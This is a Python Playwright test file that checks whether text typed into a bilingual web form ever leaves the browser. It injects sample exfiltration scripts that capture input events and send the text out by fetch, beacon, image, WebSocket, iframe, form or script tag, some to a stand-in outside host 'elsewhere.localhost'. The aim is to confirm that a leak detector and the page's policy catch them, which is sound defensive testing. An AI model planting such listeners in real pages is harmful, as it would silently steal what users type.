"""Nothing that is typed leaves the browser: all of its traffic is recorded and searched."""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, expect

from tests.browser.applicant import address, field, results, total
from tests.browser.conftest import OpenContext
from tests.browser.everything import TYPED, walk
from tests.browser.recorder import Recorder, recording
from tests.browser.secrets_sought import leaks
from tests.serving import serving

KEPT = """navigator.serviceWorker.ready.then(async ({ active }) => {
  while (active.state !== "activated") await new Promise((done) => setTimeout(done, 20));
})"""


@contextmanager
def recorded(
    site: Path, open_context: OpenContext
) -> Iterator[tuple[str, Recorder, BrowserContext]]:
    """Open a context whose traffic is recorded; the page is kept too, as on a real host."""
    with serving(site) as server:
        url = server.url.replace("127.0.0.1", "site.localhost").rstrip("/")
        with (
            recording(url.removeprefix("http://")) as recorder,
            open_context(url, proxy=recorder.proxy, permissions=[]) as (context, _),
        ):
            yield url, recorder, context


@pytest.mark.parametrize(("language", "other"), [("zh", "en"), ("en", "zh")])
def test_no_byte_of_what_is_typed_is_sent_anywhere(
    site: Path, open_context: OpenContext, language: str, other: str
) -> None:
    with recorded(site, open_context) as (url, recorder, context):
        page = context.new_page()
        page.goto(address(url, language))
        link = walk(page)
        page.reload()
        expect(total(page)).not_to_have_text("—")
        page.evaluate(KEPT)
        fragment = link.partition("#facts=")[2]
        page.locator("a[hreflang]").first.click()  # what is typed goes along, in this browser
        expect(total(page)).not_to_have_text("—")
        page.evaluate(KEPT)
        page.goto("about:blank")
        page.goto(address(url, other) + "#facts=" + fragment)
        expect(field(page, "s1.name")).to_have_value(TYPED["project"])
        expect(results(page)).to_contain_text(TYPED["project"])
        page.locator("#wizard-outcome a[href*='2020-03-16']").first.click()  # with a referrer?
        page.wait_for_load_state()
        page.go_back()
        page.locator("#wizard-forget summary").click()
        page.locator('[data-do="forget"]').click()
        page.goto(f"{url}/")
        page.close(run_before_unload=True)
        pieces = [fragment[at : at + 12] for at in range(0, len(fragment) - 12, 12)]
        assert any(request.url.endswith("/offline.js") for request in recorder.sent)
        assert any("/engine/worker-" in request.url for request in recorder.sent)
        assert leaks(recorder.sent, [*TYPED.values(), *pieces], site, url) == []


LISTEN = "addEventListener('input', ({ target: { value: text } }) => { WAY });"
WAYS_OUT = {
    "address": "fetch('../?' + encodeURIComponent(text))",
    "path": "fetch('../' + btoa(unescape(encodeURIComponent(text))) + '.html')",
    "header": "fetch('../robots.txt', { headers: { 'x-what': encodeURIComponent(text) } })",
    "language": "fetch('../robots.txt', { headers: { 'accept-language': 'qz-73918264' } })",
    "body": "fetch('../', { method: 'POST', body: text })",
    "beacon": "navigator.sendBeacon('../', text)",
    "cookie": "(document.cookie = 'what=1; path=/', fetch('../robots.txt'))",
    "image": "new Image().src = '../robots.txt#' + (new Image().src = '../a.png?' + text)",
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_leak_would_be_found(site: Path, open_context: OpenContext, way: str) -> None:
    with recorded(site, open_context) as (url, recorder, context):
        context.add_init_script(LISTEN.replace("WAY", WAYS_OUT[way]))
        page = context.new_page()
        page.goto(address(url, "zh"))
        before = len(recorder.sent)
        field(page, "enterprise.name").fill(TYPED["enterprise"])
        page.wait_for_timeout(500)
        assert leaks(recorder.sent[:before], TYPED.values(), site, url) == []
        assert leaks(recorder.sent, TYPED.values(), site, url) != []


@pytest.mark.parametrize(
    "way",
    ["fetch('http://elsewhere.localhost/?' + text)",
     "navigator.sendBeacon('http://elsewhere.localhost/', text)",
     "new Image().src = 'http://elsewhere.localhost/?' + text",
     "new WebSocket('ws://elsewhere.localhost/' + encodeURIComponent(text))",
     "document.body.insertAdjacentHTML('beforeend',"
     " `<iframe src='http://elsewhere.localhost/?${text}'></iframe>`)",
     "Object.assign(document.body.appendChild(document.createElement('form')),"
     " { action: 'http://elsewhere.localhost/', method: 'post' }).submit()",
     "document.body.append(Object.assign(document.createElement('script'),"
     " { src: 'http://elsewhere.localhost/' + text }))",
     "document.head.append(Object.assign(document.createElement('link'),"
     " { rel: 'stylesheet', href: 'http://elsewhere.localhost/' + text }))"],
    ids=["fetch", "beacon", "image", "socket", "frame", "form", "script", "style"],
)  # fmt: skip
def test_the_policy_of_the_page_lets_nothing_out_to_another_host(
    site: Path, open_context: OpenContext, way: str
) -> None:
    with recorded(site, open_context) as (url, recorder, context):
        context.add_init_script(LISTEN.replace("WAY", way))
        page = context.new_page()
        page.goto(address(url, "zh"))
        field(page, "enterprise.name").fill(TYPED["enterprise"])
        page.wait_for_timeout(500)
        assert leaks(recorder.sent, TYPED.values(), site, url) == []
